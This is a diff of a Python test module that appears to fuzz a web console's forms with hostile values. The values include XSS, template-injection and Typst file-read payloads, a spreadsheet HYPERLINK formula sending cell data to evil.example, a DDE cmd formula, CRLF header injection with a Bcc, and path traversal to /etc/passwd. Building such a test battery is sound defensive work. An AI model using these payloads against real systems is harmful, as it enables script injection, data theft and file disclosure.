@@ -7,6 +7,7 @@ field gets the same hostile value. A new form or field is in the battery by bein
 from __future__ import annotations
 
 import json
+import os
 import re
 from collections.abc import Iterator
 from dataclasses import dataclass, field
@@ -24,26 +25,37 @@ from hedgerow.console.routes import GatedRoute
 
 MARK: Final = "hostileMark"
 """Stands in everything that would run or be markup, so that the battery knows it again."""
+_SCRIPT: Final = f'"\'><script>alert("{MARK}")</script><img src=x onerror=alert("{MARK}")><svg/onload=alert("{MARK}")>'
+_TEMPLATE: Final = "{{7*191}}${7*191}#{7*191}<%= 7*191 %>{% include '/etc/passwd' %}{{ self.__init__ }}"
+_TYPST: Final = '#read("/etc/passwd") #import "x": * $x$ @y <z> ]] )) */ // ``` \\u{41} #eval("7*191") #while true {}'
+_BIDI: Final = "\u202eknab\u202c\u2066\u200b\u200d\ufeff\U000e0041 e\u0301" + "\u0300" * 40
 HOSTILE: Final[dict[str, str]] = {
-    "script": f'"\'><script>alert("{MARK}")</script><img src=x onerror=alert("{MARK}")><svg/onload=alert("{MARK}")>',
-    "address": f"javascript:alert('{MARK}')//https://evil.example/{MARK}",
-    "template": "{{7*191}}${7*191}#{7*191}<%= 7*191 %>{% include '/etc/passwd' %}{{ self.__init__ }}",
-    "typst": '#read("/etc/passwd") #import "x": * $x$ @y <z> ]] )) */ // ``` \\u{41} #eval("7*191") #while true {}',
+    "script": f"{_SCRIPT}{_TEMPLATE}",
+    "typst": f"{_TYPST}{_BIDI}",
     "formula": f'=HYPERLINK("https://evil.example/?"&A1,"{MARK}")',
-    "formula of a tab": f"\t=cmd|' /C calc'!A0{MARK}",
+    "formula behind a tab": f"\t=cmd|' /C calc'!A0{MARK}",
     "header": f"x\r\nSet-Cookie: {MARK}=1\r\nBcc: {MARK}@evil.example\r\n\r\n<b>",
-    "bidi": "\u202eknab\u202c\u2066\u200b\u200d\ufeff\U000e0041 e\u0301" + "\u0300" * 40,
     "nul": f"a\x00b\x01\x08\x1b[31m\x7f\x85\ufffe{MARK}",
+    "unpaired": "a\ud800b",
     "path": "../../../../../../etc/passwd",
     "path in codes": "..%2f..%2f..%2fetc%2fpasswd%00.txt",
+    "address": f"javascript:alert('{MARK}')//https://evil.example/{MARK}",
     "large": "A" * 1_000_000,
     "number": "9" * 40,
     "negative": "-1",
     "not a number": "NaN",
     "earliest": "0001-01-01T00:00",
     "latest": "9999-12-31T23:59",
-    "unpaired": "a\ud800b",
 }
+"""Each kind of trouble by its name. `HEDGEROW_HOSTILE=all` sends every one; the suite those that differ in what they
+meet, and on the second database those that databases differ about."""
+MEASURES: Final = ("number", "negative", "not a number", "earliest", "latest")
+"""These go into fields for numbers and moments, too."""
+_ALL: Final = os.environ.get("HEDGEROW_HOSTILE") == "all"
+SENT: Final = [
+    ("sqlite", kind) for kind in HOSTILE if _ALL or kind in ("script", "typst", "formula", "header", "large")
+]
+SENT_TO_BOTH: Final = [(d, k) for d in ("sqlite", "postgresql") for k in ("nul", "unpaired", "number", "latest")]
 LEAVES: Final = re.compile(
     r"/sign-out$|/account/(password|sessions/end)$|/sign-in|/set-up|/disable$|/users/\w+/re?set$"
 )
